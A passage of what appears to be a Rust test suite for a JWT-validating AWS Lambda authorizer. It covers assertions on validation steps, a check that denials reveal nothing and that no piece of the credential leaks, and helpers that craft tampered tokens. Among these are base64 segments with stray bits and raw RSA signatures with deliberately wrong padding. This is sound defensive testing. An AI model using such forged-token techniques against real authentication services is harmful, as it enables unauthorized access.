            assert_eq!(
                is_reached,
                is_before || step.state == StepState::Failed,
                "{group}: {name}: {}",
                step.reason.code()
            );
            let has_something = match step.reason {
                Reason::TokenExpired => claims.is_some_and(|claims| claims["exp"].is_number()),
                Reason::TokenNotYetValid => claims.is_some_and(|claims| claims["nbf"].is_number()),
                Reason::AudienceMismatch => claims.is_some_and(|claims| {
                    let is_text = |value: &Value| value.is_string();
                    is_text(&claims["aud"])
                        || claims["aud"].as_array().is_some_and(|all| all.iter().all(is_text))
                }),
                Reason::InsufficientScope => false,
                _ => true,
            };
            let is_ok = step.state == StepState::Passed;
            assert_eq!(
                is_ok,
                is_before && has_something,
                "{group}: {name}: {}",
                step.reason.code()
            );
        }
    }
}

/// `Allow`, or the code of the reason.
fn said(answer: &Result<String, Failure>) -> String {
    let text = match answer {
        Ok(text) => text,
        Err(Failure::NoVerdict(fault)) => return fault.obstacle.code().to_owned(),
        Err(Failure::Unauthorized) => return "Unauthorized".to_owned(),
    };
    let answer: Value = serde_json::from_str(text).unwrap();
    let statements = answer["policyDocument"]["Statement"].as_array().unwrap();
    if statements[0]["Effect"] == ALLOW {
        assert_ne!(answer["principalId"], "anonymous");
        return ALLOW.to_owned();
    }
    let reason = answer["context"]["reason"].as_str().unwrap();
    let denied = json!({
        "principalId": "anonymous",
        "policyDocument": {"Version": "2012-10-17", "Statement": [
            {"Effect": "Deny", "Action": ["execute-api:Invoke"], "Resource": [format!("{STAGE}/*")]},
        ]},
        "context": {"reason": reason},
    });
    assert_eq!(answer, denied, "a refusal says nothing else");
    reason.to_owned()
}

/// Whether a piece of the credential in `event` stands in the answer.
fn leaks(event: &str, answer: &str) -> bool {
    const PIECE: usize = 16;
    let is_part = |byte: &u8| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_');
    let own = format!("{STAGE} {ISSUER} {AUDIENCE} authorizationToken awslambda event_unsupported");
    let words = answer.as_bytes().split(|byte| !is_part(byte));
    let mut pieces =
        words.flat_map(|word| word.windows(PIECE)).map(|piece| str::from_utf8(piece).unwrap());
    pieces.any(|piece| event.contains(piece) && !own.contains(piece))
}

static K1: LazyLock<SigningKey> = LazyLock::new(|| SigningKey::rsa("k1"));

fn claims() -> Value {
    tokens::claims(ISSUER, AUDIENCE)
}

fn claims_with(changes: Value) -> Value {
    merged(claims(), changes)
}

fn without(claim: &str) -> Value {
    let mut claims = claims();
    claims.as_object_mut().unwrap().remove(claim);
    claims
}

fn merged(mut object: Value, changes: Value) -> Value {
    let Value::Object(changes) = changes else { panic!("not an object") };
    object.as_object_mut().unwrap().extend(changes);
    object
}

fn good() -> String {
    K1.token(&claims())
}

fn segments(token: &str) -> (&str, &str, &str) {
    let (signed, signature) = token.rsplit_once('.').unwrap();
    let (header, payload) = signed.split_once('.').unwrap();
    (header, payload, signature)
}

fn set(keys: &[&Value]) -> String {
    json!({"keys": keys}).to_string()
}

fn pem(label: &str, der: &[u8]) -> String {
    use base64::Engine as _;
    let text = base64::engine::general_purpose::STANDARD.encode(der);
    let lines = text.as_bytes().chunks(64).map(|line| str::from_utf8(line).unwrap());
    format!(
        "-----BEGIN {label}-----\n{}\n-----END {label}-----\n",
        lines.collect::<Vec<_>>().join("\n")
    )
}

/// The same bytes to a lenient decoder: the bits after the last byte are not zero.
fn stray_bits(segment: &str) -> String {
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let (rest, last) = segment.split_at(segment.len() - 1);
    let value = ALPHABET.iter().position(|letter| *letter == last.as_bytes()[0]).unwrap();
    format!("{rest}{}", ALPHABET[value | 1] as char)
}

/// An RSA key that raises any block to its private exponent, padded right or wrong.
struct RawKey {
    modulus: BigUint,
    exponent: BigUint,
}

impl RawKey {
    fn generate() -> Self {
        let pair = KeyPair::generate(KeySize::Rsa2048).unwrap();
        let der: Pkcs8V1Der<'_> = pair.as_der().unwrap();
        // RFC 5208 and RFC 8017 A.1.2: version, algorithm, and within the octets: version, n, e, d.
        let outer = elements(elements(der.as_ref())[0].1);
        let key = elements(elements(outer[2].1)[0].1);
        let number = |index: usize| BigUint::from_bytes_be(key[index].1);
        Self { modulus: number(1), exponent: number(3) }
    }

    fn power(&self, block: &[u8]) -> Vec<u8> {
        let power =
            BigUint::from_bytes_be(block).modpow(&self.exponent, &self.modulus).to_bytes_be();
        [vec![0; 256 - power.len()], power].concat()
    }

    fn jwk(&self, exponent: u32) -> Value {
        let e = b64(BigUint::from(exponent).to_bytes_be());
        json!({"kty": "RSA", "kid": "k1", "n": b64(self.modulus.to_bytes_be()), "e": e})
    }

    fn settings(&self) -> [(&'static str, String); 1] {
        [("JWKS", set(&[&self.jwk(65537)]))]
    }

    fn signed_part(&self) -> String {
        [b64(r#"{"alg":"RS256","kid":"k1"}"#), b64(claims().to_string())].join(".")
    }
}

/// The elements of a piece of DER: tags and contents.
fn elements(mut der: &[u8]) -> Vec<(u8, &[u8])> {
    let mut elements = Vec::new();
    while let [tag, first, rest @ ..] = der {
        let (length, rest) = match *first {
            short @ ..0x80 => (usize::from(short), rest),
            long => {
                let (length, rest) = rest.split_at(usize::from(long & 0x7f));
                (length.iter().fold(0, |length, byte| length << 8 | usize::from(*byte)), rest)
            }
        };
        elements.push((*tag, &rest[..length]));
        der = &rest[length..];
    }
    elements
}
